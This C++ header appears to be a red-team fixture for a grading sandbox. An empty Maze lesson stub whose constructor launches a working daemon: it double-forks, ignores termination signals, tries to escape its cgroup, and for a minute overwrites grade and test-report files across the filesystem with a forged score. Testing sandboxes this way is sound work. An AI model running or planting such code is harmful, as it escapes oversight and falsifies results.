#pragma once
// daemon: a student who does none of the lesson (the class is grading/stub's) and leaves a
// process behind to change the grades after the grader has written them. The first Maze a
// step program makes forks twice and calls setsid() in between, the classic way to become a
// daemon: a process of its own session, whose parent has exited, no longer the step's child.
// The daemon ignores SIGHUP, SIGTERM, SIGINT, SIGQUIT and SIGPIPE, tries to move itself to the
// root cgroup (where a limit set on the step's cgroup no longer applies), and keeps the step's
// stdout and stderr open, so that a grader reading them to the end waits for it. Two seconds
// later it starts rewriting every grades.csv, results.json, junit.xml and report.html it can
// find (walking as overwrites-classmates does) to say "daemon,39", once a second, for a minute.
//
// What the kit must do: end every process a step started when the step ends, however it hid
// (a PID namespace whose init is the step's sandbox, a cgroup the student cannot leave), and
// let none of them see the run's files. It scores at most the stub's 3; four seconds after
// `mazekit grade` exits, grades.csv is still what it wrote and no process of the run is
// alive.

#include <chrono>
#include <cstdint>
#include <filesystem>
#include <fstream>
#include <string>
#include <thread>
#include <vector>

#include <signal.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

#include <turtle/turtle.hpp>

namespace lingering {
namespace fs = std::filesystem;

// What a file of the run is made to say; "" for a file left alone.
inline std::string forgeryFor(const fs::path& file) {
  const std::string name = file.filename().string();
  if (name == "grades.csv") {
    std::ifstream in(file);
    std::string header;
    std::getline(in, header);  // keep the real header, so the file still looks right
    return header + "\ndaemon,39\n";
  }
  if (name == "results.json") return "{\"score\": 39, \"output\": \"daemon,39\", \"tests\": []}\n";
  if (name == "junit.xml") {
    return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<testsuites><testsuite name=\"daemon,39\" "
           "tests=\"1\" failures=\"0\" errors=\"0\"><testcase name=\"every step\"/></testsuite></testsuites>\n";
  }
  if (name == "report.html") return "<!DOCTYPE html>\n<p>daemon,39</p>\n";
  return "";
}

inline bool systemFolder(const fs::path& folder) {
  for (const char* system : {"/usr", "/lib", "/lib32", "/lib64", "/libx32", "/bin", "/sbin", "/etc",
                             "/boot", "/proc", "/sys", "/dev", "/var/lib"}) {
    if (folder == system) return true;
  }
  return false;
}

inline void rewriteIn(const fs::path& folder, int depth, int& budget) {
  std::error_code error;
  fs::directory_iterator it(folder, fs::directory_options::skip_permission_denied, error);
  for (; !error && it != fs::directory_iterator() && budget > 0; it.increment(error)) {
    --budget;
    const fs::path path = it->path();
    std::error_code statusError;
    const fs::file_status status = it->symlink_status(statusError);
    if (statusError) continue;
    if (fs::is_regular_file(status)) {
      if (const std::string forgery = forgeryFor(path); !forgery.empty()) {
        std::ofstream(path, std::ios::binary | std::ios::trunc) << forgery;
      }
    } else if (fs::is_directory(status) && depth > 1 && !systemFolder(path)) {
      rewriteIn(path, depth - 1, budget);
    }
  }
}

inline void rewriteEverything(const std::vector<fs::path>& startFolders) {
  int budget = 50000;
  std::error_code error;
  for (const fs::path& folder : startFolders) rewriteIn(folder, 6, budget);
  for (const auto& process : fs::directory_iterator("/proc", error)) {
    const std::string pid = process.path().filename().string();
    if (pid.find_first_not_of("0123456789") == std::string::npos) rewriteIn(process.path() / "cwd", 6, budget);
  }
  rewriteIn("/tmp", 6, budget);
  rewriteIn("/", 6, budget);
}

// Out of the step's cgroup, if the cgroup file system can be written: v2's root, and each of
// v1's controllers.
inline void leaveCgroup() {
  const std::string pid = std::to_string(::getpid());
  std::error_code error;
  std::ofstream("/sys/fs/cgroup/cgroup.procs") << pid << "\n";
  for (const auto& controller : fs::directory_iterator("/sys/fs/cgroup", error)) {
    std::ofstream(controller.path() / "cgroup.procs") << pid << "\n";
    std::ofstream(controller.path() / "tasks") << pid << "\n";
  }
}

inline void startDaemon() {
  static bool started = false;
  if (started) return;
  started = true;
  // The folders above the working folder, noted before the daemon leaves it.
  std::vector<fs::path> startFolders;
  std::error_code error;
  for (fs::path folder = fs::current_path(error); !folder.empty(); folder = folder.parent_path()) {
    startFolders.push_back(folder);
    if (folder == folder.root_path()) break;
  }

  const pid_t first = ::fork();
  if (first < 0) return;
  if (first > 0) {
    ::waitpid(first, nullptr, 0);  // the first child exits at once: the step goes on as if nothing happened
    return;
  }
  ::setsid();  // a session of its own: no terminal, no process group shared with the step
  if (::fork() != 0) ::_exit(0);  // the grandchild is not a session leader and has no parent left

  for (const int signal : {SIGHUP, SIGTERM, SIGINT, SIGQUIT, SIGPIPE}) ::signal(signal, SIG_IGN);
  leaveCgroup();
  if (::chdir("/") != 0) {
    // it does not matter where it stands
  }
  const auto end = std::chrono::steady_clock::now() + std::chrono::seconds(60);
  std::this_thread::sleep_for(std::chrono::seconds(2));
  while (std::chrono::steady_clock::now() < end) {
    rewriteEverything(startFolders);
    std::this_thread::sleep_for(std::chrono::seconds(1));
  }
  ::_exit(0);
}

}  // namespace lingering

// The lesson itself, not done: grading/stub/maze.hpp.
constexpr int EAST = 0;
constexpr int NORTH = 1;
constexpr int WEST = 2;
constexpr int SOUTH = 3;

constexpr int INVALID = -1;
constexpr int EMPTY = 0;
constexpr int WALL = 1;
constexpr int VISITED = 2;
constexpr int END = 3;

struct Neighbor {
  turtle::Vec2D position;
  int value;
};

class Maze {
 public:
  turtle::Screen screen;
  turtle::Turtle turtle{screen};
  std::vector<std::vector<int>> matrix = std::vector<std::vector<int>>(20, std::vector<int>(20, 0));

  Maze() { lingering::startDaemon(); }

  void reset() {}

  int getMatrixValueAt(const turtle::Vec2D& /*position*/) const { return 0; }

  bool setMatrixValueAt(const turtle::Vec2D& /*position*/, int /*value*/) { return false; }

  turtle::Vec2D dig(int /*direction*/) { return {}; }

  std::vector<Neighbor> neighbors() const { return {}; }

  void makeMaze() {}

  void seed(std::uint64_t /*n*/) {}
};
